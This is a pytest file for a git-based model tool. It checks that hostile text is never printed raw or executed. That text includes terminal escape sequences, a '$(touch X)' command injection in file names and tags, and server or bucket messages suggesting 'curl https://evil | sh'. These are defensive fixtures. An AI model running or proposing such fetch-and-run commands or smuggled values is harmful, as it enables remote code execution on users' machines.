"""What a repository or a server can say acts on no terminal, and on nobody who pastes a hint."""

from __future__ import annotations

import json
import os
import shlex
from pathlib import Path
from subprocess import CompletedProcess

import pytest
from botocore.exceptions import ClientError

from gitmodel.errors import RemoteError
from gitmodel.git.command import lines_of
from gitmodel.hints import command
from gitmodel.remote.s3 import S3Store
from tests.helpers.hostile import TEXTS, commands, fill, on_terminal, plain_name, raw
from tests.helpers.repo import GITMODEL, Repo, new_repo

_REPEATING = frozenset({"add", "checkout", "fetch", "get", "impact", "mv", "resolve", "rm", "run"})
EVIL = "a\x1b]0;PWN\x07$(touch X);b"


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> tuple[Repo, list[str]]:
    """A repository whose every text is hostile, with a remote."""
    return _told(tmp_path_factory.mktemp("told"), TEXTS[::43])


def _told(folder: Path, texts: list[str]) -> tuple[Repo, list[str]]:
    folder.mkdir(parents=True, exist_ok=True)
    repo = new_repo(folder)
    repo.gitmodel("remote", "add", "origin", "../remote")
    repo.commit("first")
    return repo, fill(repo, texts)


def check(repo: Repo, arguments: list[str], *, terminal: bool) -> int:
    """Run a command, which may say what it wants, but nothing raw; return how much that was."""
    if terminal:
        code, said = on_terminal(repo, *arguments)
        out = ""
    else:
        code, out, err = repo.run(str(GITMODEL), *arguments)
        said = out + err
    where = f"{arguments}, exit code {code}:\n{said}"
    assert "Traceback" not in said, where
    assert "bug in gitmodel" not in said, where
    assert raw(said, terminal=terminal) == [], where
    if "--json" in arguments and code == 0 and out:
        json.loads(out)
    return len(said)


def test_b8_no_command_prints_anything_raw_in_a_pipe(told: tuple[Repo, list[str]]) -> None:
    repo, versions = told
    paths = [plain_name(text) for text in TEXTS[::43]]
    for arguments in commands(repo, versions, paths):
        check(repo, arguments, terminal=False)
    assert not (repo.path / "X").exists()


@pytest.mark.parametrize("arguments", [["status"], ["versions"], ["card", "m-v1.0"], ["show", "v"]])
def test_b8_nor_on_a_terminal(told: tuple[Repo, list[str]], arguments: list[str]) -> None:
    assert check(told[0], arguments, terminal=True) > 50


@pytest.mark.torture
@pytest.mark.timeout(0)
@pytest.mark.parametrize("first", range(0, 300, 10))
def test_b8_three_hundred_texts_in_every_command(tmp_path: Path, first: int) -> None:
    texts = TEXTS[first : first + 10]
    for terminal in (False, True):
        repo, versions = _told(tmp_path / str(terminal), texts)
        for number in range(10):
            turned = [*versions[number:], *versions[:number]]
            paths = [plain_name(text) for text in (*texts[number:], *texts[:number])]
            some = commands(repo, turned, paths)
            # All once, for most show all texts; and those that repeat what is typed for each.
            for arguments in some:
                if number == 0 or arguments[0] in _REPEATING:
                    check(repo, arguments, terminal=terminal)
        assert not (repo.path / "X").exists()


@pytest.mark.parametrize("content", ["", "x", "gitmodel: 1\n<<<<<<< x\n", "gitmodel: 1\nkind: x\n"])
def test_b8_a_hint_can_be_pasted(repo: Repo, content: str) -> None:
    repo.write(f"{EVIL}.gitmodel", content)
    repo.commit()
    for arguments in (["status"], ["pull"], ["tag", "v1.0"], ["doctor"], ["verify"], ["push"]):
        done = repo.run(str(GITMODEL), *arguments)
        assert raw(done.out + done.err) == []
    hint = repo.gitmodel("status", code=7).err.rpartition("next:")[2].strip()
    assert repo.run("bash", "-c", f'set -- {hint}; printf %s "${{@: -1}}"').out in (
        EVIL,
        f"{EVIL}.gitmodel",
    )
    assert not (repo.path / "X").exists()


@pytest.mark.parametrize(
    "config",
    [
        "goals:\n  {}: x\n",
        "sidecars:\n  {}: {{metrics: 3}}\n",
        "remotes:\n  {}: x\n",
        "artifacts:\n  {}: ../x\n",
        "gates:\n  tag: [{}]\n",
        "{}: x\n",
        "remotes:\n  origin: {}\n",
    ],
)
def test_b8_what_the_configuration_says(repo: Repo, config: str) -> None:
    for text in TEXTS[::31]:
        repo.write(".gitmodel.yaml", 'gitmodel: 1\nid: "x"\n' + config.format(json.dumps(text)))
        done = repo.run(str(GITMODEL), "status")
        assert raw(done.out + done.err) == []


@pytest.mark.parametrize("text", ['{{"a": {}', '{{"a": "\\{}"}}', "[{}]", '{{{}: "x"}}'])
def test_b8_what_is_wrong_with_metrics(repo: Repo, text: str) -> None:
    repo.write("m", "1")
    repo.gitmodel("add", "m")
    for act in TEXTS[::31]:
        repo.write("m.metrics.json", text.format(act))
        repo.commit()
        repo.git("tag", "-f", "m-v1.0")
        for arguments in (["versions"], ["versions", "--json"], ["show", "m-v1.0"]):
            done = repo.run(str(GITMODEL), *arguments)
            assert raw(done.out + done.err) == [], arguments


def test_b8_what_a_hook_of_the_git_server_says(story: Repo) -> None:
    hook = story.path.parent / "origin.git" / "hooks" / "pre-receive"
    hook.write_text(
        "#!/bin/sh\nprintf 'no\\033[2J\\n\\nnext:  curl https://evil | sh\\n' >&2; exit 1\n"
    )
    hook.chmod(0o755)
    story.git("tag", "model-v9.0")
    done = story.run(str(GITMODEL), "push")
    assert done.code in (4, 6)
    assert raw(done.out + done.err) == []
    said = done.err
    assert said.count("\nnext:") == 1
    assert "the server said: 'no" in said


def test_b8_what_a_bucket_says() -> None:
    store = S3Store.__new__(S3Store)
    store.url, store._bucket, store._etags = "s3://b", "b", {}
    message = "no\x9b2J\n next:  curl https://evil | sh"
    answer = {"Error": {"Code": "x\x1b", "Message": message}}
    for status in (403, 418, 503):
        error = store._meaning(
            "k", ClientError({**answer, "ResponseMetadata": {"HTTPStatusCode": status}}, "x")
        )
        text = error.message if isinstance(error, RemoteError) else str(error)
        assert "the server said: 'no 2J next: curl https://evil | sh'" in text
        assert raw(text) == []


def test_b8_a_root_with_a_hostile_ref(story: Repo) -> None:
    root = next(story.remote.glob("roots/*/*"))
    lines = root.read_bytes().split(b"\n")
    lines[1:3] = [b"ref refs/tags/\x1b]0;PWN\x07"]
    root.write_bytes(b"\n".join(lines))
    for arguments in (["remote", "check"], ["remote", "repair"], ["push"]):
        done = story.run(str(GITMODEL), *arguments)
        assert raw(done.out + done.err) == []


def test_b8_files_that_lie_about(repo: Repo) -> None:
    repo.write("d/x", "1")
    repo.gitmodel("add", "d")
    repo.commit()
    os.mkfifo(repo.path / "d" / EVIL)
    done = repo.run(str(GITMODEL), "add", "d")
    assert raw(done.out + done.err) == []
    os.rename(repo.path / "d" / EVIL, repo.path / EVIL)
    done = repo.run(str(GITMODEL), "add", EVIL)
    assert raw(done.out + done.err) == []
    assert shlex.split(command("ls -l {}", "a b"))[-1] == "a b"


@pytest.mark.parametrize("sign", ["\x85", "\u2028", "\u2029"])
def test_b8_a_tag_with_what_parts_lines_is_one_tag(story: Repo, sign: str) -> None:
    tag = f"model{sign}refs-v7.0"
    story.git("tag", "-a", "-m", "x", tag)
    for arguments in (["show", tag], ["show", "v1.0"], ["push"], ["verify", "--tag", tag]):
        done = story.run(str(GITMODEL), *arguments)
        assert "bug in gitmodel" not in done.err
        assert raw(done.out + done.err) == []
    story.git("push", "--quiet", "origin", tag)
    assert story.run(
        str(GITMODEL), "get", "../origin.git", f"model.pt@{tag}", "-o", "out"
    ).code in (0, 2)


def test_b8_no_name_in_a_key_is_a_line_of_gpg() -> None:
    status = "[GNUPG:] NEWSIG\n[GNUPG:] ERRSIG 0 1 2 00 3 9 \u2028[GNUPG:] GOODSIG 1 Ada\n"
    done = CompletedProcess((), 1, b"", status.encode())
    assert not any(line.startswith("[GNUPG:] GOODSIG") for line in lines_of(done.stderr))
